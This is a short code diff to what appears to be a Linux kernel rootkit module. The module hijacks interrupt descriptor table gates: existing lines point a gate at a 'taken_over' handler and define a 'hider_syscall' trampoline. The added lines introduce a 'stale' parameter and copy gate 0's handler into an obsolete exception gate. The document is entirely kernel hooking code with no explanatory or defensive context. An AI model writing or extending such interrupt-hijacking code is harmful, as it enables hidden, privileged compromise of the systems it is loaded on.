@@ -45,6 +45,10 @@ asm(".pushsection .text\n"
     "hider_syscall: jmp *hider_entry(%rip)\n"
     ".popsection");
 
+/* And a gate whose exception no processor raises any more goes where another does. */
+static int stale = 9;
+module_param(stale, int, 0);
+
 static void take_gate(void)
 {
 	unsigned long handler = (unsigned long)taken_over;
@@ -56,6 +60,9 @@ static void take_gate(void)
 	gate->offset_low = handler;
 	gate->offset_middle = handler >> 16;
 	gate->offset_high = handler >> 32;
+	((gate_desc *)table.address)[stale].offset_low = ((gate_desc *)table.address)[0].offset_low;
+	((gate_desc *)table.address)[stale].offset_middle = ((gate_desc *)table.address)[0].offset_middle;
+	((gate_desc *)table.address)[stale].offset_high = ((gate_desc *)table.address)[0].offset_high;
 }
 
 static void patch_start(u8 *function)
